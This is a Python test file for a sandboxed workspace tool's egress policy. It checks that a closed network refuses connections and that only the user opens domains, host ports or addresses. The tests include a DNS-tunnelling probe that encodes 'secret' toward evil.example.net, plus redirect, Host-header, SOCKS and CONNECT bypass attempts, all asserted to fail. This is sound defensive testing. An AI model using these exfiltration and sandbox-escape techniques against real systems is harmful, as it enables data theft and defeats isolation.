"""A network that is off says so at once; the user opens it, whole or one port at a time, and nobody else does."""

from __future__ import annotations

import contextlib
import http.server
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from mcp import ClientSession

from pyro_mcp.errors import InvalidInput
from pyro_mcp.sdk import Pyro
from tests.engine.test_network_policy import details, index_host
from tests.faces.test_mcp import converse, refused
from tests.support import Installation
from tests.tls import served

HOST = "host.pyro.internal"


class _Answers(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        body = b"this computer says " + self.path.encode()
        if self.path.startswith("/to/"):
            self.send_response(302)
            self.send_header("Location", "http://" + self.path[4:])
        else:
            self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


@contextlib.contextmanager
def server(address: str = "127.0.0.1") -> Iterator[int]:
    """A web server of this computer; its port."""

    class Server(http.server.ThreadingHTTPServer):
        address_family = socket.AF_INET6 if ":" in address else socket.AF_INET

    with Server((address, 0), _Answers) as running, served(running):
        yield running.server_address[1]


def pyro_command(*words: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "pyro_mcp", *words], capture_output=True, text=True, timeout=120)


def test_a_network_that_is_off_fails_names_at_once_and_is_opened_by_the_user_alone(
    installation: Installation, pyro: Pyro, project: Path
) -> None:
    ws = pyro.create_workspace(name="shut").id
    begun = time.monotonic()
    said = pyro.exec_workspace(
        ws,
        "getent hosts a.example.com; curl -sS https://b.example.com/x; curl -sS http://c.internal/ http://[::1]:9/; "
        "env -i python3 -c 'import socket; socket.create_connection((\"d.example.com\", 5432))' 2>&1 | tail -1; "
        "git ls-remote https://e.example.com/x.git; curl -sS http://localhost:9/ http://$(hostname):9/",
        timeout_seconds=40,
    )
    waited = time.monotonic() - begun
    allow = "pyro workspace update shut --network-policy egress --allow-domain"
    assert {(r.host, r.port, r.why, r.allow_with) for r in said.refused} == {
        *((f"{n}.example.com", 0, "off", f"{allow} {n}.example.com") for n in "abde"),
        ("c.internal", 0, "private", ""),
    }
    assert waited < 20, "something waited for an answer, which takes 5 s and more each time"
    assert "Could not resolve host: b.example.com" in said.stderr
    assert f"{allow} a.example.com" in said.hint
    # In the history once, however often it was asked for.
    pyro.exec_workspace(ws, "for n in 1 2 3; do getent hosts a.example.com; done")
    told = [details(e) for e in pyro.history_workspace(ws).events if e.operation == "egress"]
    assert [t["host"] for t in told if t["host"] == "a.example.com"] == ["a.example.com"]
    assert {t["verdict"] for t in told} == {"refused"}

    async def model(session: ClientSession) -> None:
        grants: list[dict[str, Any]] = [{"allow_host_ports": ["80"]}, {"allow_addresses": ["10.0.0.1"]}]
        for arguments in ({"network_policy": "egress"}, *grants):
            assert "has no parameter" in await refused(session, "workspace_update", workspace="shut", **arguments)
        for arguments in grants:
            given: dict[str, Any] = {"seed_path": "", "network_policy": "egress", **arguments}
            assert "has no parameter" in await refused(session, "workspace_create", **given)

    converse(installation, project, model)


def test_the_user_opens_a_workspace_and_closes_it_again(pyro: Pyro) -> None:
    host = index_host()
    ws = pyro.create_workspace(name="door").id
    curl = f"curl -sS -m 20 -o /dev/null -w '%{{http_code}}' https://{host}/"
    assert pyro.exec_workspace(ws, curl, timeout_seconds=40).refused[0].why == "off"
    pyro.exec_workspace(ws, "echo kept > /tmp/kept; (sleep 300; true) >/dev/null 2>&1 &")
    [advice] = {r.allow_with for r in pyro.exec_workspace(ws, curl, timeout_seconds=40).refused}
    done = pyro_command(*advice.split()[1:])
    assert done.returncode == 0, done.stderr
    opened = pyro.status_workspace(ws)
    assert (opened.network_policy, opened.allow_domains) == ("egress", [host])
    for way in ("", "env -i "):
        reached = pyro.exec_workspace(ws, way + curl, timeout_seconds=40)
        assert reached.exit_code == 0, reached
        assert not reached.refused
    other = pyro.exec_workspace(
        ws, "curl -sS -m 20 https://b.example.com/; cat /tmp/kept; pgrep sleep", timeout_seconds=40
    )
    assert [(r.host, r.why) for r in other.refused] == [("b.example.com", "not_allowed")]
    assert other.stdout.startswith("kept\n")
    assert len(other.stdout.split()) == 2, "what ran goes on"
    # A snapshot from then is as open as the workspace is, no more.
    pyro.create_snapshot(ws, "open")
    pyro.update_workspace(ws, network_policy="off")
    for _ in range(2):
        closed = pyro.exec_workspace(
            ws,
            f"env | grep -ic proxy; curl -sS -m 5 -x http://127.0.0.1:3128 http://a.test/; {curl}",
            timeout_seconds=40,
        )
        assert closed.stdout == "0\n000", closed
        assert [(r.host, r.why) for r in closed.refused] == [(host, "off")]
        pyro.reset_workspace(ws, snapshot="open")
    assert pyro.status_workspace(ws).allow_domains == []
    events = [e.summary for e in pyro.history_workspace(ws, limit=1000).events if e.operation == "update_workspace"]
    assert any(host in summary and "egress" in summary for summary in events), events


def test_one_port_of_this_machine_and_nothing_else_of_it(pyro: Pyro) -> None:
    with server() as port, server() as other, server("::1") as six:
        ws = pyro.create_workspace(
            name="db", network_policy="egress", allow_domains=["none"], allow_host_ports=[f"{port}:web"]
        ).id
        assert pyro.status_workspace(ws).allow_host_ports == [f"{port}:web"]
        for name in (HOST, "web", "web.pyro.internal"):
            for way in ("", "env -i "):
                said = pyro.exec_workspace(ws, f"{way}curl -sS -m 20 http://{name}:{port}/x")
                assert said.stdout == "this computer says /x", (name, way, said)
                assert not said.refused
        python = (
            f"import http.client as h; c = h.HTTPConnection('{HOST}', {port}); "
            "c.request('GET', '/y'); print(c.getresponse().read())"
        )
        assert "says /y" in pyro.exec_workspace(ws, ["python3", "-c", python]).stdout
        told = [details(e) for e in pyro.history_workspace(ws).events if e.operation == "egress"]
        assert {(t["port"], t["verdict"]) for t in told} == {(port, "allowed")}

        # Nothing else: other ports, other spellings, a redirect, a name for it, SOCKS, a Host header.
        attempts = [
            *(f"http://{HOST}:{other}/", f"http://web:{other}/", f"http://127.0.0.1:{other}/", "http://example.com/"),
            *(f"http://{HOST}:{port}/to/127.0.0.1:{other}/", f"http://{HOST}:{port}/to/{HOST}:{other}/"),
            *(f"http://x.{HOST}:{port}/", f"http://pyro.internal:{port}/", f"http://localtest.me:{port}/"),
        ]
        for url in attempts:
            for how in ("", "env -i ", "-x socks5h://127.0.0.1:3128 "):
                curl = f"{how}curl -sSL -m 20" if not how.startswith("-x") else f"curl -sSL -m 20 {how}"
                got = pyro.exec_workspace(ws, f"{curl} --noproxy '' -H 'Host: {HOST}:{port}' {url} 2>&1")
                assert "this computer says" not in got.stdout, (url, how, got)
        raw = (
            "import socket; s = socket.create_connection(('127.0.0.1', 3129), 5); s.settimeout(5)\n"
            f"s.sendall(b'CONNECT {HOST}:{port} HTTP/1.1\\r\\n\\r\\n'); print(s.recv(100))"
        )
        assert "ConnectionResetError" in pyro.exec_workspace(ws, ["python3", "-c", raw]).stderr
        said = pyro.exec_workspace(ws, f"curl -sS -m 20 http://{HOST}:{other}/")
        [told_of] = said.refused
        assert (told_of.host, told_of.port, told_of.why) == (HOST, other, "not_allowed")
        assert told_of.allow_with == f"pyro workspace update db --allow-host-port {other}"
        assert pyro_command(*told_of.allow_with.split()[1:]).returncode == 0
        assert "says /" in pyro.exec_workspace(ws, f"env -i curl -sS -m 20 http://{HOST}:{other}/").stdout
        pyro.update_workspace(ws, allow_host_ports=[str(six)])
        assert "says /" in pyro.exec_workspace(ws, f"curl -sS -m 20 http://{HOST}:{six}/").stdout
        # A sibling and a reset have it as well; without a server it is a failure, not a refusal.
        fork = pyro.fork_workspace(ws).workspaces[0]
        assert fork.allow_host_ports == [f"{port}:web", str(other), str(six)]
        assert "says /" in pyro.exec_workspace(fork.id, f"env -i curl -sS -m 20 http://web:{port}/").stdout
    gone = pyro.exec_workspace(ws, f"curl -sS -m 20 http://{HOST}:{port}/")
    assert [(r.port, r.why) for r in gone.refused] == [(port, "failed")]


def test_one_address_of_the_network_around(pyro: Pyro) -> None:
    ws = pyro.create_workspace(name="lan", network_policy="egress", allow_domains=["none"]).id
    assert pyro_command("workspace", "update", "lan", "--allow-address", "10.255.255.254:9").returncode == 0
    said = pyro.exec_workspace(
        ws,
        "for u in 10.255.255.254:9 10.255.255.254:10 10.255.255.253:9; do curl -sS -m 20 http://$u/; done; "
        "env -i curl -sS -m 20 http://10.255.255.254.pyro.internal:9/; "
        "env -i curl -sS -m 20 http://10.255.255.253.pyro.internal:9/",
        timeout_seconds=60, wait_seconds=50,
    )  # fmt: skip
    # Whether somebody answers at the one that was let in is this network's affair: refused it is not.
    assert [(r.host, r.port, r.why) for r in said.refused if r.why != "failed"] == [
        ("10.255.255.254", 10, "private"),
        ("10.255.255.253", 9, "private"),
        ("10.255.255.253.pyro.internal", 0, "private"),
    ]
    told = [details(e) for e in pyro.history_workspace(ws).events if e.operation == "egress"]
    reached = {(t["host"], t["port"]) for t in told}
    assert reached >= {("10.255.255.254", 9), ("10.255.255.254.pyro.internal", 9)}


@pytest.mark.parametrize(
    "given",
    [
        *({"allow_host_ports": [text]} for text in ("", "0", "65536", "80:", "80:a.b", "80:localhost", "a", "8-9")),
        *({"allow_addresses": [text]} for text in ("", "127.0.0.1", "::1", "169.254.169.254", "0.0.0.0", "10.0.0.0/8")),
        *({"allow_addresses": [text]} for text in ("db.lan", "10.0.0.1:0", "224.0.0.1", "fe80::1", "::ffff:127.0.0.1")),
        {"allow_domains": ["none", "example.com"]},
    ],
)  # fmt: skip
def test_what_cannot_be_let_in_is_refused_and_changes_nothing(pyro: Pyro, given: dict[str, list[str]]) -> None:
    before = len(pyro.list_workspaces().workspaces)
    with pytest.raises(InvalidInput):
        pyro.create_workspace(network_policy="egress", **given)  # type: ignore[arg-type]
    assert len(pyro.list_workspaces().workspaces) == before


def test_names_asked_for_go_nowhere(pyro: Pyro) -> None:
    """DNS tunnelling: the machine itself answers, whatever kind of record is asked for, and nobody else hears of it."""
    ws = pyro.create_workspace(network_policy="egress", allow_domains=["example.com"]).id
    script = (
        "import socket, struct\n"
        "def ask(name, kind):\n"
        "    labels = b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\\0'\n"
        "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.connect(('127.0.0.1', 53))\n"
        "    s.send(struct.pack('>HHHHHH', 7, 256, 1, 0, 0, 0) + labels + struct.pack('>HH', kind, 1))\n"
        "    r = s.recv(4096); return r[3] & 15, struct.unpack('>H', r[6:8])[0]\n"
        "for kind in (1, 28, 16, 15, 2, 6, 33, 65, 257, 10): print(kind, *ask('c2VjcmV0.evil.example.net', kind))\n"
        "for to in ('8.8.8.8', '127.64.0.20'):\n"
        "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)\n"
        "    try: s.connect((to, 53)); s.send(b'x'); print(to, s.recv(10))\n"
        "    except OSError as e: print(to, type(e).__name__)\n"
    )
    said = pyro.exec_workspace(ws, ["python3", "-c", script], timeout_seconds=60).stdout
    rows = [line.split() for line in said.splitlines()]
    assert rows[0] == ["1", "0", "1"], said
    assert rows[1:10] == [[kind, "0", "0"] for kind in ("28", "16", "15", "2", "6", "33", "65", "257", "10")], said
    assert rows[10:] == [["8.8.8.8", "OSError"], ["127.64.0.20", "ConnectionRefusedError"]], said
    assert not [e for e in pyro.history_workspace(ws).events if e.operation == "egress"], (
        "an answer is not a connection"
    )
